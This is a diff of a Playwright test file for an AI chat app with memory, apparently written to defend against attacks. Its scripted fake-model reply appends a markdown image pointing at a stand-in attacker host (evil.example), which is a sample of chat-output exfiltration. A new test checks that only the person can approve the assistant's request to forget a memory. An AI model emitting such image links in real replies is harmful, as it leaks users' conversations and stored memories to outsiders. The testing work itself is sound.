@@ -31,10 +31,17 @@ PICTURE = "![x](https://evil.example/?q=all)"
 
 
 def _repeating(asked: Asked) -> Script:
-    """Answer with what was said, and a picture that would carry it away."""
-    if "tools" in asked.body or not asked.body.get("stream"):
+    """Look up what was said, then repeat both, with a picture that would carry them away."""
+    if not asked.body.get("stream"):
         return NOTHING_TO_KEEP
-    return Reply(f"{asked.body['messages'][-1]['content']}\n\n{PICTURE}")
+    messages = asked.body["messages"]
+    said = next(one["content"] for one in reversed(messages) if one["role"] == "user")
+    told = [one["content"] for one in messages if one["role"] == "tool"]
+    if not told:
+        return Reply.calling(("memory_search", {"query": said[:500]}))
+    if said.startswith("Forget") and told[-1].startswith("<memory"):
+        return Reply.calling(("memory_forget", {"line": 1}))
+    return Reply("\n\n".join([said, *told, PICTURE]))
 
 
 @pytest.fixture(scope="module")
@@ -86,6 +93,24 @@ def _is_clean(page: Page) -> None:
         expect(page.locator(never)).to_have_count(0)
     assert page.locator("main a[href^='javascript:'], main a[href^='data:']").count() == 0
     assert page.locator(FOREIGN_SCRIPTS).count() == 0
+
+
+def test_only_the_person_forgets_what_the_assistant_asks_to_forget(signed_up: Page) -> None:
+    """By keyboard: the question, the preview of every forgetting, and a no."""
+    _written(signed_up, "green tea")
+    signed_up.goto("/")
+    _say(signed_up, "Forget that I like green tea", 1)
+
+    question = signed_up.get_by_role("listitem").filter(has_text="The assistant asks to forget")
+    expect(question).to_contain_text("You like green tea")
+    question.get_by_role("button", name="Forget…").press("Enter")
+    expect(signed_up.get_by_role("dialog")).to_contain_text("This removes 1 memory")
+    signed_up.keyboard.press("Escape")
+    question.get_by_role("button", name="Keep it").press("Enter")
+
+    expect(signed_up.get_by_text("Kept. Nothing was forgotten.")).to_be_visible()
+    signed_up.reload()
+    expect(question).to_have_count(0)
 
 
 def test_no_page_carries_an_attack_out(signed_up: Page) -> None:
